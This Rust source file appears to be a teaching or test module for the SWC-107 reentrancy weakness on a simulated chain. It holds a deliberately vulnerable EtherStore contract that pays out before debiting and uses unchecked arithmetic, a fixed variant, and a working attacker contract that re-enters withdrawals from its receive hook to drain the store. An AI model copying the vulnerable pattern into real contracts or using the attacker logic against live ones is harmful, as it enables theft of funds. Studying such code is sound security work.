//! SWC-107 Reentrancy.
//!
//! `EtherStore` tracks per-depositor balances and caps withdrawals at one
//! ether per call. The vulnerable variant pays out before debiting the
//! depositor's ledger entry, so a contract recipient can re-enter
//! `withdraw_funds` from its receive hook until the store is empty. The
//! fixed variant debits first and reports a failed payout as a revert.

use log::trace;
use primitive_types::U256;
use swc_chain::{CallArgs, CallContext, ChainError, ContractCode, Value};
use swc_common::utils::ether;

use crate::safemath;

fn ledger_key(ctx: &CallContext<'_>) -> String {
    format!("balances.{}", ctx.sender())
}

pub struct EtherStore;

impl ContractCode for EtherStore {
    fn call(
        &self,
        ctx: &mut CallContext<'_>,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ChainError> {
        match method {
            "deposit_funds" => {
                let key = ledger_key(ctx);
                let deposited = ctx.get_uint(&key);
                let (total, _) = deposited.overflowing_add(ctx.value());
                ctx.storage_put(&key, total);
                Ok(Value::Unit)
            }
            "withdraw_funds" => {
                let amount = args.uint(0)?;
                if amount > ether(1) {
                    return Err(ChainError::revert("Exceeds withdrawal limit"));
                }
                let key = ledger_key(ctx);
                if ctx.get_uint(&key) < amount {
                    return Err(ChainError::revert("Insufficient deposited funds"));
                }
                // Pay out before touching the ledger: the recipient's
                // receive hook observes the stale entry and may re-enter.
                let caller = ctx.sender();
                ctx.transfer(caller, amount)?;
                let deposited = ctx.get_uint(&key);
                let (remaining, _) = deposited.overflowing_sub(amount);
                ctx.storage_put(&key, remaining);
                Ok(Value::Unit)
            }
            _ => Err(ChainError::unknown_method(ctx.this(), method)),
        }
    }
}

pub struct EtherStoreFixed;

impl ContractCode for EtherStoreFixed {
    fn call(
        &self,
        ctx: &mut CallContext<'_>,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ChainError> {
        match method {
            "deposit_funds" => {
                let key = ledger_key(ctx);
                let deposited = ctx.get_uint(&key);
                let total = safemath::add(deposited, ctx.value())?;
                ctx.storage_put(&key, total);
                Ok(Value::Unit)
            }
            "withdraw_funds" => {
                let amount = args.uint(0)?;
                if amount > ether(1) {
                    return Err(ChainError::revert("Exceeds withdrawal limit"));
                }
                let key = ledger_key(ctx);
                let deposited = ctx.get_uint(&key);
                if deposited < amount {
                    return Err(ChainError::revert("Insufficient deposited funds"));
                }
                // Ledger first; a re-entrant call then sees a settled
                // balance and bounces.
                ctx.storage_put(&key, safemath::sub(deposited, amount)?);
                let caller = ctx.sender();
                ctx.transfer(caller, amount)
                    .map_err(|_| ChainError::revert("Call Failed"))?;
                Ok(Value::Unit)
            }
            _ => Err(ChainError::unknown_method(ctx.this(), method)),
        }
    }
}

/// Attack payload, identical against both stores: stake one ether, start a
/// withdrawal, and keep re-entering from the receive hook while the store
/// can still cover one.
pub struct EtherStoreAttacker;

impl ContractCode for EtherStoreAttacker {
    fn constructor(&self, ctx: &mut CallContext<'_>, args: &[Value]) -> Result<(), ChainError> {
        let target = args.address(0)?;
        ctx.storage_put("target", target);
        Ok(())
    }

    fn call(
        &self,
        ctx: &mut CallContext<'_>,
        method: &str,
        _args: &[Value],
    ) -> Result<Value, ChainError> {
        match method {
            "attack_ether_store" => {
                if ctx.value() != ether(1) {
                    return Err(ChainError::revert("Requires a 1 ether stake"));
                }
                let target = ctx
                    .get_address("target")
                    .ok_or_else(|| ChainError::revert("Attack target not set"))?;
                ctx.call(target, "deposit_funds", &[], ether(1))?;
                ctx.call(
                    target,
                    "withdraw_funds",
                    &[Value::Uint(ether(1))],
                    U256::zero(),
                )?;
                Ok(Value::Unit)
            }
            _ => Err(ChainError::unknown_method(ctx.this(), method)),
        }
    }

    fn receive(&self, ctx: &mut CallContext<'_>) -> Result<(), ChainError> {
        let target = match ctx.get_address("target") {
            Some(target) => target,
            None => return Ok(()),
        };
        if ctx.balance_of(target) >= ether(1) {
            trace!("re-entering withdraw_funds on {}", target);
            ctx.call(
                target,
                "withdraw_funds",
                &[Value::Uint(ether(1))],
                U256::zero(),
            )?;
        }
        Ok(())
    }
}
